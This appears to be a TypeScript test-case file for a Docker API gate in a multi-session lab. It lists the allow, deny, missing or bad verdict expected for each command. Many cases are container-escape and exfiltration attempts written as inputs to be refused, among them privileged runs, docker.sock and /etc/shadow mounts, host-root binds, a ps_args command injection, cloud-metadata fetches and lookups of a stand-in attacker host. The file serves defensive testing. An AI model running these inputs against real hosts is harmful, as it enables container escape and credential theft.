/**
 * The engine cases of the gate, as data: what a learner types, and how it ends. `OWN` and `OTHER` are containers of this and of
 * another session, `lab` the image of the lab; the other words in capitals are filled in by the test.
 */

export type Verdict =
  /** Works, and says `out` (a pattern). */
  | 'allow'
  /** Refused, nothing reaches the engine; says why. */
  | 'deny'
  /** As if it did not exist. */
  | 'missing'
  /** Not well formed. */
  | 'bad';

export interface GateCase {
  readonly id: string;
  readonly verdict: Verdict;
  /** Words of a docker command line. */
  readonly run?: string;
  /** A request of its own: method, path, and JSON body. */
  readonly raw?: readonly [method: string, path: string, body?: unknown];
  /** In the output, or in the answer's body. */
  readonly out?: RegExp;
  readonly input?: string;
}

const allow = (id: string, run: string, out?: RegExp, input?: string): GateCase => ({
  id,
  verdict: 'allow',
  run,
  ...(out ? { out } : {}),
  ...(input === undefined ? {} : { input }),
});
const deny = (id: string, run: string, out?: RegExp): GateCase => ({ id, verdict: 'deny', run, ...(out ? { out } : {}) });
const missing = (id: string, run: string): GateCase => ({ id, verdict: 'missing', run });
const bad = (id: string, run: string, out?: RegExp): GateCase => ({ id, verdict: 'bad', run, ...(out ? { out } : {}) });
const raw = (id: string, verdict: Verdict, method: string, path: string, body?: unknown, out?: RegExp): GateCase => ({
  id,
  verdict,
  raw: body === undefined ? [method, path] : [method, path, body],
  ...(out ? { out } : {}),
});
const create = (id: string, verdict: Verdict, host: object, top: object = {}): GateCase =>
  raw(id, verdict, 'POST', '/containers/create', { Image: 'lab', ...top, HostConfig: host });

export const GATE_CASES: readonly GateCase[] = [
  deny('RUN-001', 'run --privileged lab true', /Privileged/),
  create('RUN-002', 'deny', { Privileged: true }),
  allow('RUN-008', 'run --rm lab grep CapBnd /proc/self/status', /CapBnd:\s0{16}/),
  deny('RUN-010', 'run --security-opt seccomp=unconfined lab true'),
  deny('RUN-012', 'run --security-opt label=disable lab true'),
  deny('RUN-013', 'run --security-opt no-new-privileges=false lab true'),
  deny('RUN-014', 'run --security-opt systempaths=unconfined lab true'),
  deny('RUN-015', 'run --security-opt writable-cgroups=true lab true'),
  deny('RUN-017', 'run --pid=host lab true'),
  deny('RUN-018', 'run --pid=container:WORKSTATION lab true'),
  missing('RUN-021', 'run --ipc=container:OTHER lab true'),
  deny('RUN-022', 'run --ipc=shareable lab true'),
  deny('RUN-023', 'run --uts=host lab true'),
  deny('RUN-024', 'run --userns=host lab true'),
  create('RUN-027', 'missing', { Cgroup: 'container:OTHER' }),
  missing('RUN-029', 'run --network=container:OTHER lab true'),
  deny('RUN-030', 'run --network=container:WORKSTATION lab true'),
  allow('RUN-031', 'run --rm --network=bridge lab cat /etc/hostname'),
  allow('RUN-032', 'run --rm --network=none lab ls /sys/class/net', /^lo$/m),
  missing('RUN-033', 'run --network=OTHERNETPREFIX lab true'),
  raw('RUN-034', 'missing', 'POST', '/containers/create', {
    Image: 'lab',
    HostConfig: { NetworkMode: 'default' },
    NetworkingConfig: { EndpointsConfig: { OTHERNET: {} } },
  }),
  deny('RUN-035', 'run --device=/dev/kmsg lab true'),
  deny('RUN-037', 'run --device=/dev/null:/dev/x:rwm lab true'),
  create('RUN-040', 'deny', { DeviceRequests: [{ Driver: 'cdi', DeviceIDs: ['x'] }] }),
  deny('RUN-041', 'run --device-read-bps /dev/sda:1mb lab true'),
  deny('RUN-043', 'run --runtime=io.containerd.kata.v2 lab true'),
  deny('RUN-044', 'run --runtime=runc lab true'),
  deny('RUN-045', 'run --isolation=hyperv lab true'),
  allow('RUN-046', 'run --rm --init lab true'),
  deny('RUN-048', 'run --sysctl kernel.msgmax=65536 lab true'),
  deny('RUN-049', 'run --sysctl net.ipv4.ip_forward=1 lab true'),
  raw('RUN-050', 'deny', 'POST', '/containers/create', {
    Image: 'lab',
    NetworkingConfig: { EndpointsConfig: { bridge: { DriverOpts: { 'com.docker.network.endpoint.sysctls': 'x=1' } } } },
  }),
  deny('RUN-051', 'run --ulimit nofile=1048576:1048576 lab true', /nofile/),
  deny('RUN-052', 'run --ulimit nproc=-1 lab true'),
  deny('RUN-054', 'run --oom-score-adj=-1000 lab true'),
  deny('RUN-055', 'run --oom-kill-disable lab true'),
  deny('RUN-059', 'run --log-driver=fluentd --log-opt fluentd-address=unix:///run/x.sock lab true'),
  allow('RUN-060', 'run --rm --log-driver=json-file --log-opt max-size=1t lab true'),
  allow('RUN-061', 'run --rm --log-driver=none lab true'),
  deny('RUN-062', 'run --log-opt env-regex=.* lab true'),
  create('RUN-063', 'deny', { Annotations: { 'io.katacontainers.config.hypervisor.path': '/x' } }),
  allow('RUN-065', 'run --rm --tmpfs /x:size=100g lab grep /x /proc/mounts', /nosuid,nodev,noexec.*size=65536k/),
  allow('RUN-066', 'run --rm --tmpfs /x:exec,suid,dev lab grep /x /proc/mounts', /nosuid,nodev,noexec/),
  allow('RUN-068', 'run --rm --shm-size=64g lab df -k /dev/shm', /\b65536\b/),
  allow(
    'RUN-070',
    'run --rm --memory=0 lab sh -c "cat /sys/fs/cgroup/memory/memory.limit_in_bytes || cat /sys/fs/cgroup/memory.max"',
    /536870912/,
  ),
  create('RUN-072', 'bad', {}, { StopTimeout: 1.5 }),
  allow('RUN-075', 'run --rm --cpuset-cpus=0 lab true'),
  allow('RUN-077', 'run --rm --pids-limit=-1 lab sh -c "cat /sys/fs/cgroup/pids/pids.max || cat /sys/fs/cgroup/pids.max"', /128/),
  allow('RUN-079', 'run --rm --user 0 lab id', /uid=0/),
  deny('RUN-082', 'run --dns 10.0.0.53 lab true'),
  deny('RUN-084', 'run --add-host gate.internal:6.6.6.6 lab true', /reserved/),
  allow('RUN-084', 'run --rm --add-host other:10.6.6.6 lab grep other /etc/hosts', /10\.6\.6\.6/),
  bad('RUN-086', `run --hostname ${'h'.repeat(300)} lab true`),
  raw('RUN-088', 'deny', 'POST', '/containers/create', {
    Image: 'lab',
    NetworkingConfig: { EndpointsConfig: { bridge: { IPAMConfig: { IPv4Address: 'WORKSTATIONIP' } } } },
  }),
  allow('RUN-089', 'run -d --name RUN-089 --stop-timeout=2147483647 --stop-signal=SIGCONT lab sleep 60'),
  allow('RUN-090', 'run --rm --health-cmd true --health-interval=1ms lab true'),
  deny('RUN-091', 'run --workdir /proc/self/fd/8 lab true'),
  deny('RUN-092', 'run --platform linux/s390x lab true'),
  create('RUN-099', 'bad', {}, { Env: [`A=${'x'.repeat(300_000)}`] }),
  create('RUN-100', 'bad', {}, { Cmd: Array.from({ length: 5_000 }, () => '') }),
  allow('RUN-103', 'logs OWN', /hello from own/),
  allow('RUN-104', 'run --rm --health-cmd true lab true'),

  deny('VOL-002', 'run -v /etc/shadow:/s:ro lab true'),
  deny('VOL-003', 'run -v /var/run/docker.sock:/var/run/docker.sock lab true'),
  create('VOL-004', 'deny', { Binds: ['//var/run/docker.sock:/s'] }),
  deny('VOL-005', 'run -v /proc/self/root/var/run:/s lab true'),
  deny('VOL-006', 'run --mount type=bind,src=/etc,dst=/e lab true'),
  allow('VOL-007', 'run --rm -v /lab:/app lab ls /app', /mine/),
  create('VOL-008', 'deny', { Binds: ['/lab/../../..:/x'] }),
  deny('VOL-012', 'volume create -o type=none -o o=bind -o device=/ x'),
  deny('VOL-014', 'volume create -o type=nfs -o o=addr=10.0.0.5,rw -o device=:/export x'),
  deny('VOL-019', 'volume create -d rexray/ebs x'),
  raw('VOL-020', 'deny', 'POST', '/volumes/create', { Name: 'x', ClusterVolumeSpec: { Group: 'a' } }),
  allow('VOL-021', 'volume create OTHERVOLUME'),
  allow('VOL-022', 'run --rm -v OTHERVOLUME:/x lab ls -A /x', /^$/),
  missing('VOL-024', 'run --volumes-from OTHER lab true'),
  allow('VOL-026', 'run --rm --volumes-from OWN:ro lab cat /data/file', /kept/),
  raw('VOL-027', 'missing', 'POST', '/containers/create', {
    Image: 'lab',
    HostConfig: { Mounts: [{ Type: 'image', Source: 'others:latest', Target: '/i' }] },
  }),
  create('VOL-029', 'deny', { Mounts: [{ Type: 'cluster', Source: 'x', Target: '/x' }] }),
  create('VOL-030', 'deny', { Mounts: [{ Type: 'npipe', Source: 'x', Target: '/x' }] }),
  deny('VOL-031', 'run --mount type=bind,src=/x,dst=/x,bind-propagation=rshared lab true'),
  create('VOL-033', 'deny', { Mounts: [{ Source: '/', Target: '/h' }] }),
  create('VOL-035', 'deny', { Binds: ['/:/h:z'] }),
  create('VOL-037', 'bad', { Binds: { 0: '/:/h' } }),
  create('VOL-038', 'bad', { Binds: [null, ['/:/h']] }),
  missing('VOL-043', 'volume rm OTHERSREALVOLUME'),
  raw('VOL-045', 'deny', 'PUT', '/volumes/x'),

  deny('NET-002', 'network create -d macvlan -o parent=eth0 m'),
  deny('NET-004', 'network create -d host h'),
  deny('NET-005', 'network create -d overlay --attachable o'),
  deny('NET-006', 'network create -d someplugin p'),
  deny('NET-007', 'network create --subnet 10.0.0.0/8 n'),
  deny('NET-009', 'network create --subnet 0.0.0.0/0 n'),
  deny('NET-011', 'network create -o com.docker.network.bridge.name=docker0 n'),
  deny('NET-012', 'network create -o com.docker.network.bridge.host_binding_ipv4=0.0.0.0 n'),
  deny('NET-016', 'network create -o com.docker.network.driver.mtu=1 n'),
  deny('NET-018', 'network create --ipv6 --subnet fd00::/8 n'),
  deny('NET-019', 'network create --ingress n'),
  deny('NET-020', 'network create --config-only c'),
  deny('NET-021', 'network create --scope swarm n'),
  deny('NET-022', 'network create bridge'),
  deny('NET-022', 'network create host'),
  missing('NET-024', 'network connect OTHERNET OWN'),
  missing('NET-025', 'network connect ownnet OTHER'),
  deny('NET-028', 'network connect --alias gate ownnet OWN'),
  allow('NET-029', 'network connect --alias db ownnet OWN'),
  allow('NET-040', 'network inspect ownnet', /"Name": "OWN"/),
  allow('NET-035', 'network disconnect ownnet OWN'),
  deny('NET-030', 'network connect --ip WORKSTATIONIP bridge OWN'),
  deny('NET-031', 'network connect --driver-opt com.docker.network.endpoint.ifname=eth9 ownnet OWN'),
  deny('NET-033', 'network disconnect -f bridge WORKSTATION'),
  missing('NET-034', 'network disconnect OTHERNET OTHER'),
  missing('NET-037', 'network rm OTHERNETPREFIX'),
  deny('NET-022', 'network rm bridge'),
  allow('NET-045', 'run --rm -p 22:22 lab true'),
  allow('NET-056', 'run --rm lab sh -c "timeout 5 getent hosts secret.attacker.example || echo none $?"', /none (?:2|124)/),
  raw('NET-049', 'bad', 'POST', '/containers/create', { Image: 'lab', HostConfig: { PortBindings: { '80/tcp;x': [{ HostPort: '1' }] } } }),

  deny('EXE-004', 'exec WORKSTATION sh'),
  missing('EXE-005', 'exec OTHER sh'),
  allow('EXE-007', 'exec -e LD_PRELOAD=/x OWN true'),
  allow('RUN-103', 'exec OWN echo inside', /inside/),
  raw('EXE-008', 'missing', 'POST', `/exec/${'0'.repeat(64)}/start`, {}),
  raw('EXE-014', 'bad', 'POST', '/containers/OWN/exec', { Cmd: ['sh'], DetachKeys: 'x'.repeat(1_000) }),
  raw('EXE-016', 'deny', 'GET', '/containers/OWN/attach/ws?stdin=1&stream=1'),
  raw('EXE-016', 'missing', 'GET', '/containers/OTHER/attach/ws?stdin=1&stream=1'),
  allow('EXE-017', 'exec -i OWN cat', /to and fro/, 'to and fro'),
  missing('EXE-018', 'logs OTHER'),
  raw('EXE-020', 'bad', 'GET', `/containers/OWN/logs?stdout=1&since=${'9'.repeat(40)}`),
  missing('EXE-021', 'top OTHER'),
  raw('EXE-022', 'deny', 'GET', '/containers/OWN/top?ps_args=%3B+id'),
  raw('EXE-022', 'deny', 'GET', '/containers/OWN/top?ps_args=-p+1+-o+environ'),
  allow('EXE-022', 'top OWN -o pid,args', /sleep/),
  allow('EXE-023', 'stats --no-stream OWN', /OWN/),
  missing('EXE-025', 'export OTHER'),
  deny('EXE-026', 'export OWN'),
  missing('EXE-027', 'commit OTHER stolen'),
  deny('EXE-028', 'commit WORKSTATION stolen'),
  deny('EXE-029', 'commit OWN lab:latest'),
  missing('EXE-032', 'cp OTHER:/etc/passwd -'),
  missing('EXE-033', 'cp /etc/hostname OTHER:/'),
  allow('EXE-035', 'cp OWN:/data/file -', /kept/),
  deny('EXE-036', 'cp /etc/hostname OWN:/'),
  missing('EXE-043', 'kill OTHER'),
  deny('EXE-046', 'pause WORKSTATION'),
  allow('EXE-047', 'pause OWN'),
  allow('EXE-047', 'unpause OWN'),
  deny('EXE-050', 'rename OWN opslab-core'),
  missing('EXE-054', 'update --memory 64m OTHER'),
  allow('EXE-053', 'update --memory 64m --memory-swap 64m OWN'),
  missing('EXE-055', 'wait OTHER'),
  raw('EXE-056', 'missing', 'DELETE', '/containers/OTHER?force=1'),
  deny('EXE-061', 'container prune -f --filter until=1s'),
  raw('EXE-062', 'deny', 'POST', '/containers/OWN/checkpoints', { CheckpointID: 'c', CheckpointDir: '/etc' }),
  raw('EXE-062', 'deny', 'POST', '/containers/OWN/start?checkpoint=c1&checkpoint-dir=%2Fetc'),
  raw('EXE-064', 'deny', 'POST', '/containers/OWN/copy', { Resource: '/etc' }),

  allow('IMG-001', 'pull lab', /up to date/),
  deny('IMG-002', 'pull busybox', /not in this lab/),
  deny('IMG-003', 'pull evil.example:5000/x'),
  deny('IMG-006', `pull lab@sha256:${'a'.repeat(64)}`),
  raw('IMG-007', 'deny', 'POST', '/images/create?fromSrc=http%3A%2F%2F169.254.169.254%2Fx'),
  deny('IMG-011', 'load'),
  deny('IMG-014', 'login -u a -p b evil.example'),
  missing('IMG-018', `tag sha256:${'1'.repeat(64)} mine`),
  allow('IMG-017', 'tag lab mine:1'),
  allow('IMG-017', 'run --rm mine:1 echo tagged', /tagged/),
  allow('IMG-017', 'rmi mine:1', /Untagged: mine:1/),
  deny('IMG-002', 'rmi lab'),
  deny('IMG-028', 'history lab'),
  deny('IMG-029', 'save lab'),
  deny('IMG-031', 'search x'),
  raw('IMG-032', 'deny', 'GET', '/distribution/evil.example/x/json'),
  raw('IMG-033', 'deny', 'GET', '/images/lab/attestations'),

  deny('OWN-001', 'run --label io.ops-lab.session=other lab true', /reserved/),
  allow('OWN-003', 'run --rm --label IO.OPS-LAB.SESSION=other lab true'),
  allow('OWN-005', 'run --rm --label name=core --label image=trusted lab true'),
  allow('OWN-006', 'run --rm --label com.docker.compose.project=OTHERS lab true'),
  create('OWN-008', 'bad', {}, { Labels: Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`l${index}`, 'x'])) }),
  deny('OWN-010', 'run --name OTHERSHORT lab true'),
  deny('OWN-011', 'run --name opslab-core lab true'),
  raw('OWN-012', 'bad', 'POST', '/containers/create?name=a+b', { Image: 'lab' }),
  raw('OWN-014', 'bad', 'POST', '/containers/create?name=w%D0%B5b', { Image: 'lab' }),
  missing('OWN-015', 'inspect OTHER'),
  allow('OWN-019', 'ps -aq --filter label=io.ops-lab.session=other', /^$/),
  raw('OWN-020', 'bad', 'GET', '/containers/json?filters=%7B%7D&filters=%7B%7D'),
  raw('OWN-021', 'bad', 'GET', '/containers/json?filters=not-json'),
  allow('OWN-024', 'ps -aq --filter ancestor=others --filter volume=OTHERVOLUME', /^$/),

  deny('SWM-003', 'swarm leave --force'),
  raw('SWM-004', 'deny', 'GET', '/swarm/unlockkey'),
  raw('SWM-005', 'deny', 'POST', '/services/create', { TaskTemplate: {} }),
  raw('SWM-008', 'deny', 'GET', '/nodes'),
  raw('SWM-009', 'deny', 'POST', '/secrets/create', { Name: 'x' }),
  raw('SWM-010', 'deny', 'POST', '/configs/create', { Name: 'x' }),
  raw('SWM-012', 'deny', 'POST', '/plugins/create'),
  raw('SWM-013', 'deny', 'GET', '/plugins/privileges?remote=evil.example%2Fx'),
  raw('SWM-014', 'deny', 'GET', '/tasks'),
  raw('SWM-015', 'deny', 'GET', '/debug/pprof/heap'),
  allow('SWM-020', 'version', /Engine/),
  raw('BLD-054', 'deny', 'POST', '/session'),
  raw('BLD-055', 'deny', 'POST', '/grpc'),

  raw('HTP-001', 'bad', 'POST', '/containers/create', { Image: 'lab', hostconfig: { Privileged: true } }),
  raw('HTP-010', 'bad', 'POST', '/containers/create', { Image: 'lab', Binds: ['/:/h'], Privileged: true }),
  raw('HTP-011', 'bad', 'POST', '/containers/create', { Image: 'lab', HostConfig: null, Privileged: true }),
  create('HTP-016', 'bad', { Privileged: 'true' }),
  create('HTP-016', 'bad', { Privileged: [true] }),
  create('HTP-019', 'bad', {}, { Labels: { constructor: { prototype: { x: 1 } } } }),

  allow('HRD-001', 'run --rm lab sh -c "mount -t proc proc /mnt || echo refused"', /refused/),
  allow('HRD-004', 'run --rm lab sh -c "mkdir /sys/fs/cgroup/memory/x || mkdir /sys/fs/cgroup/x || echo refused"', /refused/),
  allow('HRD-005', 'run --rm lab sh -c "mknod /x b 8 0 || echo refused"', /refused/),
  allow('HRD-006', 'run --rm lab sh -c "unshare -U true || echo refused"', /refused/),
  allow('HRD-008', 'run --rm lab sh -c "ip link add x type dummy || echo refused"', /refused/),
  allow('HRD-015', 'run --rm lab sh -c "date -s 2020-01-01 || echo refused; hostname other || echo refused"', /refused[\s\S]*refused/),
  allow('HRD-016', 'run --rm lab sh -c "ulimit -c"', /^0$/m),
];

/** Builds: a Dockerfile, what it is called with, and how it ends. */
export const BUILD_CASES: readonly {
  readonly id: string;
  readonly verdict: Verdict;
  readonly dockerfile: string;
  readonly args?: string;
  readonly out?: RegExp;
}[] = [
  {
    id: 'BLD-001',
    verdict: 'allow',
    dockerfile: 'FROM lab\nRUN echo hello > /hello\nCMD ["cat", "/hello"]',
    out: /Successfully tagged app:latest/,
  },
  { id: 'BLD-002', verdict: 'deny', dockerfile: 'FROM lab', args: '--network host' },
  { id: 'BLD-003', verdict: 'missing', dockerfile: 'FROM lab', args: '--network container:OTHER' },
  { id: 'BLD-004', verdict: 'allow', dockerfile: 'FROM lab\nRUN ls /sys/class/net > /net; echo net: $(cat /net)', out: /net: lo$/m },
  { id: 'BLD-006', verdict: 'deny', dockerfile: 'FROM lab', args: '--cgroup-parent /' },
  { id: 'BLD-009', verdict: 'allow', dockerfile: 'FROM lab\nRUN ulimit -n', args: '--shm-size 64g --ulimit nofile=1000000', out: /^4096/m },
  { id: 'BLD-013', verdict: 'deny', dockerfile: 'FROM lab', args: '--cache-from others' },
  { id: 'BLD-015', verdict: 'deny', dockerfile: 'FROM lab', args: '-t evil.example:5000/x' },
  { id: 'BLD-016', verdict: 'deny', dockerfile: 'FROM lab', args: '--label io.ops-lab.session=other' },
  { id: 'BLD-017', verdict: 'deny', dockerfile: 'FROM lab\nLABEL io.ops-lab.session=other' },
  { id: 'BLD-029', verdict: 'missing', dockerfile: 'FROM ops-lab/base' },
  { id: 'BLD-032', verdict: 'missing', dockerfile: 'FROM lab AS a\nFROM lab\nCOPY --from=others /etc /x' },
  { id: 'BLD-033', verdict: 'deny', dockerfile: '# escape=`\nFROM lab' },
  { id: 'BLD-034', verdict: 'deny', dockerfile: 'FROM lab\nADD http://169.254.169.254/latest/meta-data /x' },
  { id: 'BLD-035', verdict: 'deny', dockerfile: 'FROM lab\nADD https://git.example/x.git /x' },
  { id: 'BLD-039', verdict: 'deny', dockerfile: 'FROM lab\nRUN --mount=type=cache,source=/x,target=/y id' },
  { id: 'BLD-040', verdict: 'missing', dockerfile: 'FROM lab\nRUN --mount=type=bind,from=others,target=/x id' },
  { id: 'BLD-042', verdict: 'deny', dockerfile: 'FROM lab\nRUN --security=insecure id' },
  { id: 'BLD-050', verdict: 'deny', dockerfile: `FROM lab\n${'RUN true\n'.repeat(1_000)}` },
];
